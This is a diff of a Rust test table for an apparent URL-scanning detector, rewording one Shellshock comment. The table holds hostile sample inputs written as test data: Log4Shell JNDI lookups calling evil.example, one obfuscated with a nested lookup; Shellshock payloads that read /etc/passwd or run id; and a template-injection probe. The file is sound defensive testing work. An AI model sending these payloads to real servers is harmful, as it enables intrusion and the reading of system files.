@@ -212,7 +212,7 @@ const RULES: &[Row] = &[
     ("jndi-lookup", "https://v.example/?q=${jndi:ldap://evil.example:1389/a}", Fires { at: "${jndi:ldap://evil.example:1389/a}" }, "Log4Shell: a server that logs the URL looks the name up"),
     ("jndi-lookup", "https://v.example/${${lower:j}ndi:ldap://evil.example/a}", Fires { at: "${${lower:j}ndi:ldap://evil.example/a}" }, "the word spelled by a nested lookup, across path segments"),
     ("jndi-lookup", "https://v.example/?q=${env:HOME}", Misses, "a lookup that names no JNDI resource"),
-    ("shellshock", "http://v.example/cgi-bin/status?() { :;}; /bin/cat /etc/passwd", Fires { at: "() { :;}; /bin/cat /etc/passwd" }, "a bash function definition as the raw query: QUERY_STRING, which bash before 4.3 patch 25 runs the rest of"),
+    ("shellshock", "http://v.example/cgi-bin/status?() { :;}; /bin/cat /etc/passwd", Fires { at: "() { :;}; /bin/cat /etc/passwd" }, "a bash function definition as the raw query: QUERY_STRING, which a bash without the Shellshock fixes of September 2014 runs the rest of"),
     ("shellshock", "http://v.example/cgi-bin/status?q=() { :;}; id", Misses, "after 'q=', the query does not start with the definition, so bash reads none"),
     ("shellshock", "http://v.example/cgi-bin/status?()%20{%20:;};%20id", Misses, "escaped: QUERY_STRING is never decoded, so bash sees '()%20{'"),
     ("template-injection", "https://v.example/search?q={{7*7}}", Fires { at: "{{7*7}}" }, "a Jinja2 or Twig probe: 49 on the page says the value was rendered as a template"),
